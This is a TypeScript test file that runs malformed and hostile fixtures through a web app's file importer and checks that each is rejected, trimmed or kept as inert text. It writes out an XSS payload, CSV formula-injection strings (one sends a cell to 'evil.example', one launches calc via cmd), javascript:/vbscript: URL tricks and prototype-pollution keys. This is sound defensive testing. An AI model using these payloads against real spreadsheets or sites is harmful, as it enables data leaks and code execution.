/**
 * Every bad or hostile file in tests/fixtures/bad goes through the app's own entry point (`importFiles`, the
 * same call the file picker, drag-and-drop and `?data=` links end in) and must end as tests/fixtures/bad/EXPECT.md
 * says: REJECT (refused with a message that names the file), PARTIAL (loads, the named items or links are
 * dropped with their paths), CLEAN (loads, payloads kept as literal text) or NOTICE (loads with notices only).
 *
 * Whatever the outcome, after every file: nothing threw, no prototype changed, no message carries a raw
 * control, bidi or half (lone surrogate) character, every stored link is an absolute http(s) URL without
 * credentials, and a loaded map can be cloned, modelled and formatted without NaN. A file that loads then goes
 * through the rest of the app headless: layout, filters, search, totals, summary and the exports (the SVG keeps
 * markup escaped; the JSON export loads again with no warning).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { DealMap } from '../../src/lib/data/format.ts';
import type { Issue } from '../../src/lib/data/issues.ts';
import { COMPANY_ID_PATTERN, ITEM_ID_PATTERN } from '../../src/lib/data/schema.ts';
import type { ValidationResult } from '../../src/lib/data/validate.ts';
import { formatAmount } from '../../src/lib/format/money.ts';
import { buildModel } from '../../src/lib/graph/model.ts';
import { dealsCsv } from '../../src/lib/export/deals-csv.ts';
import { dealsJson } from '../../src/lib/export/deals-json.ts';
import { mapSvg } from '../../src/lib/export/map-svg.ts';
import { applyFilters } from '../../src/lib/filters/apply.ts';
import { NO_FILTERS } from '../../src/lib/filters/types.ts';
import { companyTotals } from '../../src/lib/graph/totals.ts';
import { importFiles, type InputFile } from '../../src/lib/import/index.ts';
import { computeLayout } from '../../src/lib/layout/force-layout.ts';
import { layoutRadii } from '../../src/lib/state/layout-sizes.ts';
import { searchCompanies } from '../../src/lib/search/search.ts';
import { mapSummary } from '../../src/lib/state/summary.ts';
import { DEFAULT_VIEW } from '../../src/lib/state/view-params.ts';
import { sourcesOf } from '../../src/lib/data/sources.ts';

const DIR = new URL('../fixtures/bad/', import.meta.url);
const DEPTH = 100_000;

type Outcome = 'REJECT' | 'PARTIAL' | 'CLEAN' | 'NOTICE';

interface Row {
  readonly file: string;
  /** A second file picked together with the first (a companies CSV). */
  readonly with?: string;
  readonly outcome: Outcome;
  /** Key words of the expected message: the error (REJECT), a warning (PARTIAL) or a notice (NOTICE). */
  readonly words?: readonly string[];
  /** PARTIAL: the paths reported as skipped, removed or ignored — exactly these, no others, once each. */
  readonly skipped?: readonly string[];
  /** Ids that must load (companies and deals). */
  readonly keeps?: readonly string[];
  /** Ids that must not load. */
  readonly drops?: readonly string[];
  readonly check?: (map: DealMap) => void;
}

const PAYLOAD = /__pwned/;

// One row per file, as in EXPECT.md.
const ROWS: readonly Row[] = [
  // Not JSON, or not our shape: the file is refused.
  { file: 'not-json-truncated.json', outcome: 'REJECT', words: ['not valid JSON', 'line 5'] },
  { file: 'not-json-trailing-comma.json', outcome: 'REJECT', words: ['not valid JSON', 'line 5'] },
  { file: 'not-json-single-quotes.json', outcome: 'REJECT', words: ['not valid JSON', 'line 2'] },
  { file: 'not-json-nan-literal.json', outcome: 'REJECT', words: ['not valid JSON', 'line 7'] },
  { file: 'empty.json', outcome: 'REJECT', words: ['the file is empty'] },
  { file: 'whitespace-only.json', outcome: 'REJECT', words: ['the file is empty'] },
  { file: 'top-level-array.json', outcome: 'REJECT', words: ['neither an AI Deal Map file', 'it is a list'] },
  { file: 'top-level-string.json', outcome: 'REJECT', words: ['neither an AI Deal Map file', 'it is text'] },
  {
    file: 'top-level-number.json',
    outcome: 'REJECT',
    words: ['neither an AI Deal Map file', 'the number 42'],
  },
  { file: 'top-level-null.json', outcome: 'REJECT', words: ['neither an AI Deal Map file', 'it is null'] },
  { file: 'missing-companies.json', outcome: 'REJECT', words: ['no "companies" list'] },
  { file: 'missing-deals.json', outcome: 'REJECT', words: ['no "deals" list'] },
  {
    file: 'companies-not-a-list.json',
    outcome: 'REJECT',
    words: ['"companies" should be a list', 'an object'],
  },
  { file: 'companies-empty.json', outcome: 'REJECT', words: ['"companies" list is empty'] },
  { file: 'no-readable-company.json', outcome: 'REJECT', words: ['No company could be read'] },
  {
    file: 'wrong-format-version.json',
    outcome: 'REJECT',
    words: ['"ai-deal-map/2"', 'reads "ai-deal-map/1"'],
  },
  { file: 'duplicate-keys-last-wins.json', outcome: 'REJECT', words: ['"companies" list is empty'] },
  { file: 'csv-in-a-json-file.json', outcome: 'REJECT', words: ['not valid JSON', 'looks like CSV'] },
  { file: 'json-in-a-csv-file.csv', outcome: 'REJECT', words: ['looks like JSON, not CSV', '.json name'] },
  { file: 'csv-missing-to-column.csv', outcome: 'REJECT', words: ['missing required column "to"'] },
  {
    file: 'csv-unclosed-quote.csv',
    outcome: 'REJECT',
    words: ['line 3, column "to": a quoted cell is never closed'],
  },
  {
    file: 'deep-nesting-top-level.marker.json',
    outcome: 'REJECT',
    words: ['neither an AI Deal Map file', 'it is a list'],
  },

  // One bad item (or link) is dropped and named; the rest loads.
  {
    file: 'dangling-deal-ends.json',
    outcome: 'PARTIAL',
    words: ['"anthropc" is not a company id (did you mean "anthropic"?)'],
    skipped: ['deals[3].to', 'deals[4].from'],
    keeps: ['openai-aws-2025-compute', 'amazon-anthropic-2023-investment', 'anthropic-nvidia-2025-chips'],
    drops: ['openai-anthropc-2025-typo', 'nobody-aws-2025-compute'],
  },
  {
    file: 'duplicate-company-ids.json',
    outcome: 'PARTIAL',
    words: ['"openai" is already used by companies[0]'],
    skipped: ['companies[5].id'],
    check: (map) =>
      expect(map.companies.filter((c) => c.id === 'openai').map((c) => c.name)).toEqual(['OpenAI']),
  },
  {
    file: 'duplicate-deal-ids.json',
    outcome: 'PARTIAL',
    words: ['is already used by deals[0]'],
    skipped: ['deals[3].id'],
    check: (map) =>
      expect(map.deals.filter((d) => d.id === 'openai-aws-2025-compute').map((d) => d.from)).toEqual([
        'openai',
      ]),
  },
  {
    file: 'deal-id-equals-company-id.json',
    outcome: 'PARTIAL',
    words: ['"nvidia" is already a company id'],
    skipped: ['deals[3].id'],
    keeps: ['nvidia', 'anthropic-nvidia-2025-chips'],
  },
  {
    file: 'wrong-field-types.json',
    outcome: 'PARTIAL',
    words: ['should be text, but is the number 20251103'],
    skipped: ['deals[3].amount.value', 'deals[4].date', 'deals[5].status'],
    drops: ['amount-as-text', 'date-as-number', 'status-as-list'],
  },
  {
    file: 'bad-amounts.json',
    outcome: 'PARTIAL',
    words: ['should not be negative'],
    skipped: [
      'deals[3].amount.value',
      'deals[4].amount.value',
      'deals[5].amount.value',
      'deals[6].amount.value',
      'deals[7].amount.usd',
    ],
    drops: ['negative-amount', 'infinite-amount', 'nan-text-amount', 'implausible-amount', 'infinite-usd'],
  },
  {
    file: 'impossible-dates.json',
    outcome: 'PARTIAL',
    words: ['is not a real calendar date: "2025-02-30"'],
    skipped: ['deals[3].date', 'deals[4].date', 'deals[5].date', 'deals[6].date', 'deals[7].date'],
    keeps: ['leap-day-ok'],
    drops: ['feb-30', 'month-13', 'year-zero', 'month-zero', 'unpadded'],
  },
  {
    file: 'end-before-start.json',
    outcome: 'PARTIAL',
    words: ["is before the deal's date"],
    skipped: ['deals[3].endDate', 'deals[4].endDate'],
    drops: ['ends-before-it-starts', 'end-without-start'],
  },
  {
    file: 'self-deals.json',
    outcome: 'PARTIAL',
    words: ['a deal needs two different companies'],
    skipped: ['deals[3].to', 'deals[4].to'],
    drops: ['openai-openai-2025', 'renamed-self-deal'],
  },
  {
    file: 'null-and-junk-items.json',
    outcome: 'PARTIAL',
    words: ['should be an object with named fields, but is null'],
    skipped: [
      'companies[5]',
      'companies[6]',
      'companies[7]',
      'companies[8].id',
      'companies[8].name',
      'companies[8].category',
      'companies[9].id',
      'companies[9].name',
      'companies[9].category',
      'deals[0]',
      'deals[1]',
      'deals[2]',
      'deals[3].id',
      'deals[3].from',
      'deals[3].to',
      'deals[3].type',
      'deals[3].status',
      'deals[4].id',
      'deals[4].from',
      'deals[4].to',
      'deals[4].type',
      'deals[4].status',
    ],
    keeps: ['openai-aws-2025-compute', 'amazon-anthropic-2023-investment', 'anthropic-nvidia-2025-chips'],
  },
  {
    file: 'xss-in-ids.json',
    outcome: 'PARTIAL',
    words: ['should be a kebab-case id', '<img src=x onerror=\\"window.__pwned=1\\">'],
    skipped: ['companies[5].id', 'companies[6].category', 'deals[3].id', 'deals[4].to', 'deals[5].type'],
    drops: ['svg-category', 'to-img', 'type-svg'],
    check: (map) => expect([...map.layout.keys()]).toEqual(['openai']),
  },
  {
    file: 'javascript-in-every-url-field.json',
    outcome: 'PARTIAL',
    words: ['uses "javascript:", but only http: and https: links are allowed'],
    skipped: [
      'meta.correctionsUrl',
      'companies[0].url',
      'companies[4].url',
      'deals[0].sources[0].url',
      'deals[0].sources[1].archiveUrl',
      'deals[1].sources[0].url',
      'events[0].url',
    ],
    keeps: ['openai', 'nvidia', 'openai-aws-2025-compute', 'amazon-anthropic-2023-investment'],
    check: (map) => {
      expect(map.deals[0] && sourcesOf(map.deals[0])).toEqual([{ url: 'https://example.com/ok' }]);
      expect(map.deals[1] && sourcesOf(map.deals[1])).toEqual([]);
      expect(map.events).toEqual([{ date: '2025-01', label: 'Event' }]);
    },
  },
  {
    file: 'url-scheme-tricks.json',
    outcome: 'PARTIAL',
    words: ['uses "vbscript:", but only http: and https: links are allowed'],
    skipped: [
      ...Array.from({ length: 29 }, (_, i) => i)
        .filter((i) => i !== 26)
        .map((i) => `deals[0].sources[${i}].url`),
      'deals[1].sources[0].url',
    ],
    keeps: ['openai-aws-2025-compute', 'amazon-anthropic-2023-investment'],
    check: (map) =>
      expect(map.deals[0] && sourcesOf(map.deals[0]).map((s) => s.url)).toEqual([
        'https://nohost/', // "https:///nohost": the WHATWG parser skips the extra slash
        'https://example.com/genuine',
        'https://example.com/Upper',
        'https://example.org/back/slashes',
        'https://example.com/a%20b%3Cscript%3E',
        'http://xn--80ak6aa92e.com/idn',
      ]),
  },
  {
    file: 'story-params-forbidden-and-proto.json',
    outcome: 'PARTIAL',
    words: ['a story may not set "__proto__"'],
    skipped: [
      'stories[0].params.data',
      'stories[0].params.embed',
      'stories[0].params.scroll',
      'stories[0].params.__proto__',
      'stories[0].params.constructor',
      'stories[0].params.prototype',
      'stories[0].params.theme',
      'stories[1].params.focus',
      'stories[2].id',
    ],
    check: (map) => {
      expect(map.stories.map((s) => [s.id, [...s.params]])).toEqual([
        [
          'ok-story',
          [
            ['focus', 'openai'],
            ['types', 'compute'],
          ],
        ],
      ]);
    },
  },
  {
    file: 'bidi-and-control-chars.json',
    outcome: 'PARTIAL',
    words: ['"rtl\\u202eid"'],
    skipped: ['companies[6].category', 'companies[7].id', 'deals[3].to'],
    keeps: ['spoof'],
    drops: ['bell', 'bidi-deal'],
    check: (map) => {
      const spoof = map.companies.find((c) => c.id === 'spoof');
      // Kept as data (the UI isolates it); only messages must escape it.
      expect(spoof?.name).toBe('\u202egnp.exe\u202c Harmless Corp');
      expect(spoof?.aliases).toEqual(['\u2066isolate\u2069', 'zero\u200bwidth']);
    },
  },
  {
    file: 'emoji-and-10000-character-name.json',
    outcome: 'PARTIAL',
    words: ['should be at most 200 characters long'],
    skipped: ['companies[6].name', 'companies[7].id'],
    keeps: ['rocket', 'emoji-deal'],
    drops: ['long-name'],
    check: (map) => expect(map.companies.find((c) => c.id === 'rocket')?.name).toBe('🚀 Rocket 👩‍👩‍👧 AI 🇫🇷'),
  },
  {
    file: 'lone-surrogates.json',
    outcome: 'PARTIAL',
    words: ['"\\udc00x"'],
    skipped: ['companies[6].id'],
    keeps: ['lone-high'],
  },
  {
    file: 'huge-and-tiny-numbers.json',
    outcome: 'PARTIAL',
    words: ['should be a finite number (it is too large to represent)'],
    skipped: [
      'companies[4].founded',
      'deals[2].to',
      'deals[3].termYears',
      'deals[4].capacityGw',
      'layout.openai',
      'layout.aws',
    ],
    keeps: ['term-tiny-ok'],
    drops: ['nvidia', 'anthropic-nvidia-2025-chips', 'term-infinite', 'capacity-negative'],
    check: (map) => expect([...map.layout]).toEqual([['anthropic', { x: 1, y: 2 }]]),
  },
  {
    file: 'deep-nesting.marker.json',
    outcome: 'PARTIAL',
    words: ['should be text, but is a list'],
    skipped: [
      'meta.title',
      'companies[2].id',
      'companies[2].name',
      'companies[2].category',
      'deals[1].summary',
      'layout.openai',
      'stories[0].params.a',
    ],
    keeps: ['openai', 'aws', 'openai-aws-2025-compute'],
    drops: ['deep-summary'],
    check: (map) => {
      expect(map.meta.title).toBe('deep-nesting.marker');
      expect(map.deals[0]?.amount?.value).toBe(1);
    },
  },
  {
    file: 'd3-dangling-link-index.json',
    outcome: 'PARTIAL',
    words: ['99 is not a node index'],
    skipped: ['links[1].target', 'links[2].target'],
    check: (map) => {
      expect(map.companies.map((c) => c.name).toSorted()).toEqual(['AWS', 'Nvidia', 'OpenAI']);
      expect(map.deals).toHaveLength(2);
    },
  },

  // Loads; every payload is kept as literal text (or, for CSV, the formula stays a string).
  { file: 'xss-in-every-text-field.json', outcome: 'CLEAN' },
  {
    file: 'csv-formula-injection.csv',
    outcome: 'CLEAN',
    check: (map) => {
      const [first, second] = map.deals;
      expect(first?.summary).toBe('=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")');
      expect(first?.notes).toBe("+cmd|' /C calc'!A0");
      expect(first && sourcesOf(first)[0]?.publisher).toBe('@SUM(1+1)*cmd');
      expect(second?.summary).toBe('=1+1'); // the exporter's guard apostrophe is undone
      expect(second && sourcesOf(second)[0]?.publisher).toBe('=IMPORTXML("https://evil.example","//a")');
    },
  },
  {
    file: 'good-bom-unicode-rtl.json',
    outcome: 'CLEAN',
    check: (map) => {
      expect(map.companies.find((c) => c.id === 'g42')?.name).toBe('جي 42');
      expect(map.companies.find((c) => c.id === 'zhipu')?.url).toBe(
        'https://xn--r8jz45g.jp/%E3%83%91%E3%82%B9',
      );
    },
  },
  {
    file: 'good-pair.deals.csv',
    with: 'good-pair.companies.csv',
    outcome: 'CLEAN',
    keeps: [
      'openai',
      'anthropic',
      'amazon',
      'aws',
      'openai-aws-2025-compute',
      'amazon-anthropic-2023-investment',
    ],
    check: (map) => expect(map.companies.find((c) => c.id === 'aws')?.parent).toBe('amazon'),
  },

  // Loads with notices only.
  { file: 'good-minimal.json', outcome: 'NOTICE', words: ['No "format" given'] },
  {
    file: 'proto-keys-top-level.json',
    outcome: 'NOTICE',
    words: ['3 unknown fields were ignored (the first: __proto__)'],
  },
  {
    file: 'proto-keys-in-companies.json',
    outcome: 'NOTICE',
    words: ['unknown fields were ignored'],
    keeps: [
      'constructor',
      'prototype',
      'tostring',
      'valueof',
      'hasownproperty',
      'constructor-prototype-2025',
      'tostring-valueof-2025',
      'hasownproperty-openai-2025',
    ],
    check: (map) => {
      expect(map.companies.find((c) => c.id === 'prototype')?.parent).toBe('constructor');
      expect(map.companies.find((c) => c.id === 'hasownproperty')?.category).toBe('other');
      expect(buildModel(map).companyIndex.get('constructor')).toBeTypeOf('number');
    },
  },
  {
    file: 'proto-keys-in-amount.json',
    outcome: 'NOTICE',
    words: ['unknown fields were ignored'],
    check: (map) => {
      expect(map.deals[0]?.amount).toEqual({ currency: 'USD', kind: 'undisclosed', scope: 'total' });
      expect(map.deals[1]?.amount?.value).toBe(4e9);
    },
  },
  {
    file: 'proto-keys-in-layout.json',
    outcome: 'NOTICE',
    words: ['2 layout positions name companies not in the file'],
    check: (map) =>
      expect([...map.layout]).toEqual([
        ['constructor', { x: 3, y: 4 }],
        ['openai', { x: 0, y: 0 }],
      ]),
  },
];

// ---------------------------------------------------------------------------------------------------------

/** A fixture's text; `.marker` files get 100,000 levels of nesting where they say `__DEEP_…__`. */
function read(name: string): string {
  const text = readFileSync(new URL(name, DIR), 'utf8');
  if (!name.includes('.marker.')) return text;
  return text
    .replaceAll('__DEEP_ARRAY__', `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`)
    .replaceAll('__DEEP_OBJECT__', `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`);
}

function filesOf(row: Row): InputFile[] {
  const names = row.with ? [row.file, row.with] : [row.file];
  return names.map((name) => ({ name, text: read(name) }));
}

const RAW_UNSAFE =
  // eslint-disable-next-line no-control-regex -- looking for exactly these characters
  /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Every string inside a value (objects, arrays, Maps), without recursion. */
function stringsOf(root: unknown): string[] {
  const out: string[] = [];
  const stack: unknown[] = [root];
  while (stack.length > 0) {
    const value = stack.pop();
    if (typeof value === 'string') out.push(value);
    else if (value instanceof Map) for (const [k, v] of value) stack.push(k, v);
    else if (Array.isArray(value)) stack.push(...value);
    else if (typeof value === 'object' && value !== null) stack.push(...Object.values(value));
  }
  return out;
}

/** Every link the validated map stores. */
function linksOf(map: DealMap): string[] {
  return [
    ...(map.meta.correctionsUrl === undefined ? [] : [map.meta.correctionsUrl]),
    ...map.companies.flatMap((c) => (c.url === undefined ? [] : [c.url])),
    ...map.deals.flatMap((d) =>
      sourcesOf(d).flatMap((s) => [s.url, ...(s.archiveUrl ? [s.archiveUrl] : [])]),
    ),
    ...map.events.flatMap((e) => (e.url === undefined ? [] : [e.url])),
  ];
}

function idsOf(map: DealMap): Set<string> {
  return new Set([...map.companies.map((c) => c.id), ...map.deals.map((d) => d.id)]);
}

const describeIssue = (i: Issue) => `${i.severity} ${i.file ?? '?'} ${i.path}: ${i.message}`;

/** What must hold for any file, whatever its outcome. */
function checkInvariants(result: ValidationResult, names: readonly string[]): void {
  for (const issue of result.issues) {
    expect(RAW_UNSAFE.test(issue.message), describeIssue(issue)).toBe(false);
    expect(RAW_UNSAFE.test(issue.path), describeIssue(issue)).toBe(false);
    expect(() => encodeURIComponent(issue.message)).not.toThrow();
    if (issue.severity === 'error') expect(names, describeIssue(issue)).toContain(issue.file);
  }
  if (!result.ok) return;
  const map = result.value;
  for (const link of linksOf(map)) {
    const url = new URL(link);
    expect(['http:', 'https:'], link).toContain(url.protocol);
    expect(url.username + url.password, link).toBe('');
    expect(url.href, 'stored in parsed form').toBe(link);
  }
  for (const c of map.companies) expect(c.id).toMatch(COMPANY_ID_PATTERN);
  for (const d of map.deals) expect(d.id).toMatch(ITEM_ID_PATTERN);
  // Nothing deep or exotic was copied: the map clones (as for a worker or $state.snapshot) and models.
  expect(() => structuredClone(map)).not.toThrow();
  const model = buildModel(map);
  for (const v of model.volume) expect(Number.isFinite(v)).toBe(true);
  for (const deal of map.deals) expect(formatAmount(deal)).not.toMatch(/NaN|Infinity|undefined|-\$0\b/);
}

// ---------------------------------------------------------------------------------------------------------

const PROTOTYPES = [Object.prototype, Array.prototype, Function.prototype, String.prototype, Map.prototype];
const snapshot = () => PROTOTYPES.map((p) => Object.getOwnPropertyNames(p).toSorted().join(','));
let before: string[];

beforeAll(() => {
  before = snapshot();
});

function expectNoPollution(): void {
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  expect(([] as unknown as Record<string, unknown>)['polluted']).toBeUndefined();
  expect((globalThis as Record<string, unknown>)['__pwned']).toBeUndefined();
  expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  expect(snapshot()).toEqual(before);
}

afterAll(() => expectNoPollution());

describe('the corpus and EXPECT.md agree', () => {
  const onDisk = readdirSync(DIR)
    .filter((n) => n !== 'EXPECT.md')
    .toSorted();
  const inTable = ROWS.flatMap((r) => (r.with ? [r.file, r.with] : [r.file])).toSorted();

  test('every file has exactly one row, and every row a file', () => {
    expect(inTable).toEqual(onDisk);
    expect(onDisk.length).toBeGreaterThanOrEqual(32);
  });

  test('EXPECT.md lists the same files with the same outcomes', () => {
    const expectMd = readFileSync(new URL('EXPECT.md', DIR), 'utf8');
    const documented = new Map<string, string>();
    for (const line of expectMd.split('\n')) {
      const cells = line.split(/(?<!\\)\|/).map((c) => c.trim());
      const file = /^`([^`]+)`/.exec(cells[1] ?? '')?.[1];
      const outcome = /^\*\*(REJECT|PARTIAL|CLEAN|NOTICE)\*\*/.exec(cells[3] ?? '')?.[1];
      if (file && outcome && onDisk.includes(file.split(' + ')[0] ?? '')) documented.set(file, outcome);
    }
    const expected = new Map(ROWS.map((r) => [r.with ? `${r.file} + ${r.with}` : r.file, r.outcome]));
    expect(Object.fromEntries(documented)).toEqual(Object.fromEntries(expected));
  });
});

describe.each(ROWS.map((row) => [row.with ? `${row.file} + ${row.with}` : row.file, row] as const))(
  '%s',
  (_name, row) => {
    test(`${row.outcome}`, () => {
      const files = filesOf(row);
      let result: ValidationResult | undefined;
      expect(() => (result = importFiles(files))).not.toThrow();
      if (!result) throw new Error('no result');
      const issues = result.issues;
      const shown = issues.map(describeIssue).join('\n');
      const warnings = issues.filter((i) => i.severity === 'warning');
      const matching = (severity: Issue['severity']) =>
        issues.some((i) => i.severity === severity && (row.words ?? []).every((w) => i.message.includes(w)));

      switch (row.outcome) {
        case 'REJECT': {
          expect(result.ok, shown).toBe(false);
          expect(matching('error'), shown).toBe(true);
          const error = issues.find((i) => i.severity === 'error');
          expect(error?.file, 'the error names the file').toBe(row.file);
          break;
        }
        case 'PARTIAL': {
          expect(result.ok, shown).toBe(true);
          expect(matching('warning'), shown).toBe(true);
          const paths = warnings.map((w) => w.path).toSorted();
          // One sentence per bad value: `1e309` is not also "implausibly large".
          expect(paths, shown).toEqual([...new Set(row.skipped)].toSorted());
          for (const w of warnings) {
            expect(w.message).toMatch(/skipped|removed|ignored/);
            expect(w.file).toBe(row.file);
          }
          break;
        }
        case 'CLEAN':
        case 'NOTICE': {
          expect(result.ok, shown).toBe(true);
          expect(warnings, shown).toEqual([]);
          expect(issues.filter((i) => i.severity === 'error')).toEqual([]);
          if (row.outcome === 'NOTICE') expect(matching('notice'), shown).toBe(true);
          break;
        }
      }

      if (result.ok) {
        const ids = idsOf(result.value);
        for (const id of row.keeps ?? []) expect(ids, `keeps ${id}`).toContain(id);
        for (const id of row.drops ?? []) expect(ids, `drops ${id}`).not.toContain(id);
        if (row.outcome === 'CLEAN' && row.file.endsWith('.json')) {
          // Every payload in the file survives verbatim as text in the loaded map.
          const payloads = stringsOf(JSON.parse(files[0]?.text.replace(/^\ufeff/, '') ?? 'null')).filter(
            (s) => PAYLOAD.test(s),
          );
          if (row.file.startsWith('xss-')) expect(payloads.length).toBeGreaterThanOrEqual(30);
          const kept = new Set(stringsOf(result.value));
          for (const p of payloads) expect(kept, p).toContain(p);
        }
        row.check?.(result.value);
      }
      checkInvariants(
        result,
        filesOf(row).map((f) => f.name),
      );
      expectNoPollution();
    });
  },
);

describe('every file that loads survives the rest of the app', () => {
  const loading = ROWS.filter((row) => row.outcome !== 'REJECT');
  test.each(loading.map((row) => [row.file, row] as const))('%s', (_name, row) => {
    const result = importFiles(filesOf(row));
    if (!result.ok) throw new Error('expected the file to load');
    const model = buildModel(result.value);
    const positions = computeLayout(model, { radii: layoutRadii(model) });
    expect(positions.every(Number.isFinite)).toBe(true);
    const visibility = applyFilters(model, NO_FILTERS);
    for (const [i, company] of model.companies.entries()) {
      expect(() => searchCompanies(model, company.name)).not.toThrow();
      expect(() => companyTotals(model, i)).not.toThrow();
    }
    expect(() => mapSummary(model, visibility)).not.toThrow();
    // Exports: markup stays escaped, and the JSON export loads again with no warning.
    const svg = mapSvg(model, visibility, positions, DEFAULT_VIEW);
    expect(svg).not.toMatch(/<(?:img|script|iframe|math|style)\b|<svg onload|NaN|Infinity/);
    const json = dealsJson(model, visibility, { positions });
    const again = importFiles([{ name: 'export.json', text: json }]);
    expect(again.issues.filter((i) => i.severity !== 'notice')).toEqual([]);
    expect(() => dealsCsv(model, visibility)).not.toThrow();
    expectNoPollution();
  });
});

describe('generated in the test', () => {
  test('a text of 50 MB + 1 byte is refused before parsing, in under 2 s', () => {
    const text = ' '.repeat(50 * 1024 * 1024 + 1);
    const started = performance.now();
    let result: ValidationResult | undefined;
    expect(() => (result = importFiles([{ name: 'huge.json', text }]))).not.toThrow();
    const ms = performance.now() - started;
    expect(ms).toBeLessThan(2000);
    expect(result?.ok).toBe(false);
    expect(result?.issues[0]?.message).toMatch(/larger than the 50 MB limit/);
    expect(result?.issues[0]?.file).toBe('huge.json');
  });

  test('a valid file loads right after each bad one, with nothing carried over', () => {
    const good = readFileSync(new URL('good-minimal.json', DIR), 'utf8');
    const once = importFiles([{ name: 'good-minimal.json', text: good }]);
    for (const row of ROWS) {
      importFiles(filesOf(row));
      expect(importFiles([{ name: 'good-minimal.json', text: good }])).toEqual(once);
    }
    expectNoPollution();
  });
});
